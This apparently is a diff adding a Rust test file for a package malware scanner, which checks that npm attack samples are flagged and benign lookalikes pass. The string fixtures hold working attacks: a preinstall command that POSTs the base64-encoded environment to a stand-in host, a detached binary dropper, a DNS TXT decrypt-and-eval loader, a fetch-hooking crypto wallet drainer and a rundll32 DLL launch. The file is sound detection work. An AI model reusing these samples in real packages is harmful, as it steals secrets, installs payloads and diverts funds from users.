@@ -1,0 +1,241 @@
+//! npm attack techniques the corpus (PyPI malware only) cannot measure, each beside the
+//! honest code it resembles: a lifecycle script that is the whole attack, a dropper that
+//! detaches its download, a key fetched from a DNS TXT record, a wallet drainer hooking
+//! the page, and a DLL started through rundll32. Written from published write-ups of
+//! real attacks, with every host and name made up.
+
+use palisade_archive::Unpacked;
+use palisade_core::{PackageFile, Verdict};
+use palisade_detect::{Analysis, Engine, ScanOptions};
+use std::time::{Duration, Instant};
+
+/// The analysis of an npm tarball holding `files` under `package/`.
+fn analyse(files: &[(&str, &str)]) -> Analysis {
+    let engine = Engine::new(ScanOptions::default()).unwrap();
+    let unpacked = Unpacked {
+        format: "tar".into(),
+        files: files
+            .iter()
+            .map(|(path, source)| PackageFile {
+                path: format!("package/{path}"),
+                data: source.as_bytes().to_vec(),
+            })
+            .collect(),
+        ..Default::default()
+    };
+    engine.analyse_unpacked(unpacked, Instant::now() + Duration::from_secs(30))
+}
+
+fn rule_ids(analysis: &Analysis) -> Vec<String> {
+    analysis.findings.iter().map(|f| f.rule.clone()).collect()
+}
+
+fn has(analysis: &Analysis, id: &str) -> bool {
+    analysis.findings.iter().any(|f| f.rule == id)
+}
+
+fn manifest(scripts: &str) -> String {
+    format!(
+        "{{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {{\n{scripts}\n  }}\n}}\n"
+    )
+}
+
+const ENV_TO_WEBHOOK: &str =
+    r#"curl -s -X POST -d \"$(env | base64 -w0)\" https://hooks.collector.example/c || true"#;
+
+#[test]
+fn a_lifecycle_script_is_read_as_the_shell_code_it_is() {
+    let attack = analyse(&[(
+        "package.json",
+        &manifest(&format!("    \"preinstall\": \"{ENV_TO_WEBHOOK}\"")),
+    )]);
+    assert_eq!(
+        attack.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        rule_ids(&attack)
+    );
+    let harvest = attack
+        .findings
+        .iter()
+        .find(|f| f.rule == "exfil/env-harvest")
+        .expect("env-harvest");
+    // At the script's own line of the manifest.
+    assert_eq!(harvest.path.as_deref(), Some("package/package.json"));
+    assert_eq!(harvest.line, Some(5));
+    assert!(has(&attack, "correlate/secrets-and-network"));
+
+    // The same command as a maintainer's release step never runs on install.
+    let release = analyse(&[(
+        "package.json",
+        &manifest(&format!(
+            "    \"report\": \"{ENV_TO_WEBHOOK}\",\n    \"postinstall\": \"husky\""
+        )),
+    )]);
+    assert_eq!(
+        release.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        rule_ids(&release)
+    );
+    assert!(!has(&release, "correlate/secrets-and-network"));
+
+    // Named by a hook, or hidden behind a harmless duplicate of the hook's key, it runs.
+    for scripts in [
+        format!("    \"report\": \"{ENV_TO_WEBHOOK}\",\n    \"postinstall\": \"npm run report\""),
+        format!("    \"postinstall\": \"{ENV_TO_WEBHOOK}\",\n    \"postinstall\": \"echo ok\""),
+    ] {
+        let reached = analyse(&[("package.json", &manifest(&scripts))]);
+        assert_eq!(reached.score.verdict, Verdict::Malicious, "{scripts}");
+    }
+}
+
+const DROPPER: &str = r#"const https = require('https');
+const fs = require('fs');
+const { spawn } = require('child_process');
+const target = require('path').join(require('os').tmpdir(), 'updater');
+https.get('https://cdn.files.example/bin/' + process.platform, (res) => {
+  const out = fs.createWriteStream(target);
+  res.pipe(out);
+  out.on('finish', () => {
+    fs.chmodSync(target, 0o755);
+    spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
+  });
+});
+"#;
+
+#[test]
+fn an_install_script_that_leaves_a_detached_program_running_is_a_dropper() {
+    let attack = analyse(&[
+        (
+            "package.json",
+            &manifest("    \"postinstall\": \"node install.js\""),
+        ),
+        ("install.js", DROPPER),
+    ]);
+    assert!(has(&attack, "correlate/install-time-background-process"));
+    assert_eq!(
+        attack.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        rule_ids(&attack)
+    );
+
+    // A dev server that detaches its worker when asked is library code, not install time.
+    let library = analyse(&[
+        ("package.json", &manifest("    \"test\": \"jest\"")),
+        ("lib/server.js", DROPPER),
+    ]);
+    assert!(!has(&library, "correlate/install-time-background-process"));
+    assert_ne!(
+        library.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        rule_ids(&library)
+    );
+}
+
+#[test]
+fn a_txt_record_that_turns_into_code_is_a_command_channel() {
+    let attack = r#"const dns = require('dns');
+const crypto = require('crypto');
+dns.resolveTxt('k.mail-check.example', (err, records) => {
+  if (err) return;
+  const key = Buffer.from(records[0].join(''), 'hex');
+  const decipher = crypto.createDecipheriv('aes-256-cbc', key.slice(0, 32), key.slice(32, 48));
+  eval(decipher.update(BLOB, 'base64', 'utf8') + decipher.final('utf8'));
+});
+"#;
+    let analysis = analyse(&[("package.json", &manifest("")), ("index.js", attack)]);
+    assert!(has(&analysis, "execution/dns-txt-code"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        rule_ids(&analysis)
+    );
+
+    // A driver reading seed-list options from TXT records reads data.
+    let driver = r#"const dns = require('dns');
+function resolveSrvOptions(host, callback) {
+  dns.resolveTxt(host, (err, records) => {
+    if (err) return callback(err);
+    callback(null, new URLSearchParams(records.map((r) => r.join('')).join('&')));
+  });
+}
+module.exports = { resolveSrvOptions };
+"#;
+    let analysis = analyse(&[("package.json", &manifest("")), ("lib/srv.js", driver)]);
+    assert!(!has(&analysis, "execution/dns-txt-code"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        rule_ids(&analysis)
+    );
+}
+
+#[test]
+fn hooking_the_page_to_swap_wallet_addresses_is_a_drainer() {
+    let drainer = r#"const patterns = { ethereum: /\b0x[a-fA-F0-9]{40}\b/g, bitcoin: /\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g };
+const mine = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';
+function swap(t) { for (const k in patterns) t = t.replace(patterns[k], mine); return t; }
+const origFetch = window.fetch;
+window.fetch = async function (...args) { const r = await origFetch.apply(this, args); return new Response(swap(await r.clone().text()), r); };
+module.exports = (s) => s;
+"#;
+    let analysis = analyse(&[("package.json", &manifest("")), ("index.js", drainer)]);
+    assert!(has(&analysis, "correlate/wallet-traffic-hijack"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        rule_ids(&analysis)
+    );
+
+    // A fetch polyfill and a wallet library validating addresses are neither.
+    let polyfill = "if (!self.fetch) { self.fetch = function (input, init) { return new Promise(xhrFetch(input, init)); }; }\n";
+    let validator = "export const isAddress = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);\nexport const short = (a) => a.slice(0, 6);\n";
+    let analysis = analyse(&[
+        ("package.json", &manifest("")),
+        ("polyfill.js", polyfill),
+        ("address.js", validator),
+    ]);
+    assert!(!has(&analysis, "correlate/wallet-traffic-hijack"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        rule_ids(&analysis)
+    );
+}
+
+#[test]
+fn rundll32_on_a_shipped_dll_is_not_opening_a_url() {
+    let attack = "const { spawn } = require('child_process');\nconst path = require('path');\nif (process.platform === 'win32') {\n  spawn('rundll32', [path.join(__dirname, 'node-gyp.dll') + ',main']);\n}\n";
+    let analysis = analyse(&[
+        (
+            "package.json",
+            &manifest("    \"install\": \"node install.js\""),
+        ),
+        ("install.js", attack),
+    ]);
+    assert!(has(&analysis, "download/rundll32-local-dll"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        rule_ids(&analysis)
+    );
+
+    // Opening a link with Windows' own url.dll is what browser-launching helpers do.
+    let opener = "const { spawn } = require('child_process');\nmodule.exports = (url) => spawn('rundll32', ['url.dll,FileProtocolHandler', url]);\n";
+    let analysis = analyse(&[("package.json", &manifest("")), ("open.js", opener)]);
+    assert!(!has(&analysis, "download/rundll32-local-dll"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        rule_ids(&analysis)
+    );
+}
